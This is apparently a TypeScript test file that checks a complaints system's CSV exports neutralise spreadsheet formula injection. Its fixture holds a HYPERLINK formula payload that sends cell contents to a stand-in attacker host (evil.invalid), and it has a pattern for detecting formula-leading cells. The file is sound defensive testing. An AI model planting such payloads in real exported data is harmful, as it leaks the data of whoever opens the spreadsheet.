import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { createEventStore } from '@redress/event-store';
import { startApi } from '../support/api-harness';
import { cliIn } from '../support/cli-harness';

const REFERENCE = '@SUM(1+1)';
const DESCRIPTION = '=HYPERLINK("http://evil.invalid/?d="&A1,"click")';

/** Every cell that a spreadsheet would run: it starts like a formula and is not a plain number. */
const live = (csv: string) =>
  (parse(csv) as string[][])
    .flat()
    .filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

const cell = (csv: string, field: string) =>
  (parse(csv) as string[][]).find((row) => row[0] === 'intake' && row[2] === field)?.[3];

describe('CSV exports cannot run formulas in the reader’s spreadsheet', () => {
  let dataDir: string;
  let id: string;
  let httpCsv: string;

  beforeAll(async () => {
    dataDir = mkdtempSync(join(tmpdir(), 'redress-csv-'));
    const api = await startApi({ store: await createEventStore({ kind: 'sqlite', dataDir }) });
    try {
      const logged = await api.request({
        method: 'POST',
        url: '/complaints',
        role: 'officer',
        body: { channel: 'EMAIL', residentRef: REFERENCE, description: DESCRIPTION },
      });
      expect(logged.statusCode).toBe(201);
      id = logged.json().id;
      const reply = await api.request({
        method: 'GET',
        url: `/complaints/${id}/export?format=csv`,
        role: 'auditor',
      });
      expect(reply.statusCode).toBe(200);
      httpCsv = reply.body;
    } finally {
      await api.close();
    }
  });
  afterAll(() => rmSync(dataDir, { recursive: true, force: true }));

  it('over HTTP: the reference and the description are prefixed with a quote', () => {
    expect(cell(httpCsv, 'residentRef')).toBe(`'${REFERENCE}`);
    expect(cell(httpCsv, 'description')).toBe(`'${DESCRIPTION}`);
    expect(live(httpCsv)).toEqual([]);
  });

  it('from the CLI: the same', async () => {
    const { code, stdout } = await cliIn(dataDir, 'export', id, '--format', 'csv');
    expect(code).toBe(0);
    expect(cell(stdout, 'residentRef')).toBe(`'${REFERENCE}`);
    expect(cell(stdout, 'description')).toBe(`'${DESCRIPTION}`);
    expect(live(stdout)).toEqual([]);
  });

  it('the JSON export keeps the values as they were typed: only the CSV cell is neutralised', async () => {
    const { stdout } = await cliIn(dataDir, 'export', id, '--format', 'json');
    expect(JSON.parse(stdout).intake).toMatchObject({
      residentRef: REFERENCE,
      description: DESCRIPTION,
    });
  });
});
